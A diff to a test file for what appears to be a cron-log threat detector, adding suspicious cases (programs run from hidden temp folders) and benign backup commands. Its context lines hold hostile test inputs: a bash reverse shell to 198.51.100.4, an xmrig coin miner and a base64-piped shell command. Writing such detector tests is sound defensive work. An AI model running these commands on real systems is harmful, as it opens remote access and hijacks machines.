@@ -203,6 +203,8 @@ describe('outside of any session', () => {
     ['ana', 'bash -i >& /dev/tcp/198.51.100.4/443 0>&1', 'Reverse shell by cron', 'critical'],
     ['ana', '/tmp/.x/xmrig --donate-level 1', 'Coin miner by cron', 'critical'],
     ['root', 'echo aWQK | base64 -d | sh', 'Encoded command run by cron', 'high'],
+    ['root', '/dev/shm/.k/upd >/dev/null 2>&1', 'Program run from a folder for temporary files by cron', 'high'],
+    ['www-data', 'sh /var/tmp/.x/run', 'Program run from a folder for temporary files by cron', 'high'],
   ])('cron of %s: %s', (user, command, title, level) => {
     const found = findings([...Array(9).keys()].map((minute) => cron(user, command, minute)));
     expect(found).toMatchObject([{ title, level, count: 9, session: null }]);
@@ -214,6 +216,8 @@ describe('outside of any session', () => {
     'mysqldump --all-databases | gzip > /srv/backup/db.gz',
     'rsync -a /srv backup@backup.example:/srv',
     'find /var/log/app -mtime +30 -delete',
+    'flock -n /tmp/.backup.lock /usr/local/bin/backup > /tmp/.backup.out',
+    '/tmp/build/run.sh',
     'truncate -s 0 /var/log/app/app.log',
     '[ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean',
     'cd / && run-parts --report /etc/cron.hourly',
